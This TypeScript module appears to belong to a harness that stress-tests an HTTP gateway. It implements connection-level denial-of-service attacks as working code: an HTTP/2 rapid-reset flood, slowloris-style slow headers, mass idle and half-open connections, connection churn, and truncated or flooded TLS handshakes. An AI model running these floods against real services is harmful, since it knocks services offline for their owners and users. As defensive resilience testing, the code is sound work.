/** Connections: many, idle, half open, cut and opened again. */
import type { Socket } from 'node:net';
import { flag, frame, frameType, preface } from '../../lib/testing/h2-frames.js';
import type { Attack, Field } from '../attack.js';
import { H2Peer, headerBlock, resetFrame, settingsFrame } from '../wire/h2.js';
import { plainHeaders } from '../wire/messages.js';
import { dial, dialPlain, opened } from '../wire/sockets.js';

/** Opens sockets, tells each `first`, and keeps them; counts those that the gateway ends. */
async function hold(field: Field, count: number, first: Uint8Array | string, open: () => Socket): Promise<Set<Socket>> {
  const { counts } = field;
  const live = new Set<Socket>();
  const one = async (): Promise<void> => {
    const socket = open();
    counts.connections++;
    counts.sent++;
    socket.once('close', () => {
      live.delete(socket);
      counts.refused++;
    });
    if (!(await opened(socket))) return;
    live.add(socket);
    socket.on('data', (chunk: Buffer) => {
      counts.bytesIn += chunk.length;
    });
    counts.bytesOut += first.length;
    if (first.length > 0) socket.write(first);
  };
  for (let i = 0; i < count && !field.over; i += atOnce) {
    await Promise.race([Promise.all(Array.from({ length: Math.min(atOnce, count - i) }, one)), field.untilOver()]);
  }
  return live;
}

/** Sockets at a time that are opened. */
const atOnce = 100;
const ping = frame(frameType.ping, 0, 0, Buffer.alloc(8));

export const connections: readonly Attack[] = [
  {
    name: 'rapid-reset',
    about: 'without a key, calls that are reset at once, on fresh connections, at most 600,000',
    async run(field) {
      const block = headerBlock(plainHeaders('POST', '/v1/events'));
      // 50 calls and their resets to a write.
      const burst = (from: number): Buffer =>
        Buffer.concat(
          Array.from({ length: 50 }, (_, i) => from + 2 * i).flatMap((stream) => [
            frame(frameType.headers, flag.endHeaders, stream, block),
            resetFrame(stream),
          ]),
        );
      const most = field.scaled(600_000);
      const lane = async (): Promise<void> => {
        while (field.counts.sent < most && !field.over) {
          const peer = await H2Peer.open(field.target, field.counts);
          if (peer === undefined) {
            await field.pause(20);
            continue;
          }
          for (let stream = 1; field.counts.sent < most && !peer.over && !field.over; stream += 100) {
            if (!(await peer.write(burst(stream)))) break;
            field.counts.sent += 50;
          }
          peer.socket.destroy();
        }
      };
      await Promise.race([Promise.all(Array.from({ length: 8 }, lane)), field.untilOver()]);
    },
  },
  {
    name: 'idle-connections',
    about: 'from one address, 10,100 HTTP/2 connections that ping every 2 s and never call',
    async run(field) {
      const live = await hold(field, field.scaled(10_100), Buffer.concat([preface, settingsFrame({}), ping]), () =>
        dial(field.target, 'h2'),
      );
      while (!field.over) {
        await field.pause(2_000);
        for (const socket of live) socket.write(ping);
      }
    },
  },
  {
    name: 'silent-connections',
    about: 'from one address, 5,000 connections that never send a byte',
    async run(field) {
      await hold(field, field.scaled(5_000), '', () => dialPlain(field.target));
      await field.untilOver();
    },
  },
  {
    name: 'half-prefaces',
    about: 'from one address, 2,000 connections that send "PR" and no more',
    async run(field) {
      await hold(field, field.scaled(2_000), 'PR', () => dial(field.target, 'h2'));
      await field.untilOver();
    },
  },
  {
    name: 'slow-heads',
    about: 'from one address, 1,000 HTTP/1.1 requests whose headers come byte by byte, one every 200 ms',
    async run(field) {
      const live = await hold(field, field.scaled(1_000), 'POST /v1/events HTTP/1.1\r\nhost: x\r\nx-slow: ', () =>
        dial(field.target, 'http/1.1'),
      );
      while (!field.over) {
        await field.pause(200);
        for (const socket of live) socket.write('a');
      }
    },
  },
  {
    name: 'slow-http2-heads',
    about: 'from one address, 200 HTTP/2 connections with a header block that goes on by a byte every 200 ms',
    async run(field) {
      const block = headerBlock(plainHeaders('POST', '/v1/events'));
      const first = Buffer.concat([preface, settingsFrame({}), frame(frameType.headers, 0, 1, block)]);
      const live = await hold(field, field.scaled(200), first, () => dial(field.target, 'h2'));
      // The bytes of one more header, for as long as the gateway takes them.
      const more = headerBlock([['x-slow', 'a'.repeat(1_000)]]);
      for (let i = 0; i < more.length && !field.over; i++) {
        await field.pause(200);
        const part = frame(frameType.continuation, 0, 1, more.subarray(i, i + 1));
        for (const socket of live) socket.write(part);
      }
      await field.untilOver();
    },
  },
  {
    name: 'connection-churn',
    about: 'from one address, connections that are opened and cut at once, 20 at a time, at most 40,000',
    async run(field) {
      const most = field.scaled(40_000);
      const lane = async (): Promise<void> => {
        while (field.counts.sent < most && !field.over) {
          field.counts.sent++;
          field.counts.connections++;
          const socket = dialPlain(field.target);
          if (!(await opened(socket))) field.counts.refused++;
          socket.write(preface);
          socket.resetAndDestroy();
        }
      };
      await Promise.all(Array.from({ length: 20 }, lane));
    },
  },
  {
    name: 'half-handshakes',
    about: 'from one address, 3,000 TLS handshakes that stop in the middle of their first record',
    tlsOnly: true,
    async run(field) {
      // A record of type handshake, 512 bytes long, of which 64 come.
      await hold(
        field,
        field.scaled(3_000),
        Buffer.concat([Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]), Buffer.alloc(53)]),
        () => dialPlain(field.target),
      );
      await field.untilOver();
    },
  },
  {
    name: 'handshake-flood',
    about: 'from one address, whole TLS handshakes that are cut at once, 10 at a time, at most 10,000',
    tlsOnly: true,
    async run(field) {
      const most = field.scaled(10_000);
      const lane = async (): Promise<void> => {
        while (field.counts.sent < most && !field.over) {
          field.counts.sent++;
          const peer = await H2Peer.open(field.target, field.counts);
          if (peer === undefined) await field.pause(20);
          else {
            field.counts.answered++;
            peer.socket.destroy();
          }
        }
      };
      await Promise.race([Promise.all(Array.from({ length: 10 }, lane)), field.untilOver()]);
    },
  },
];
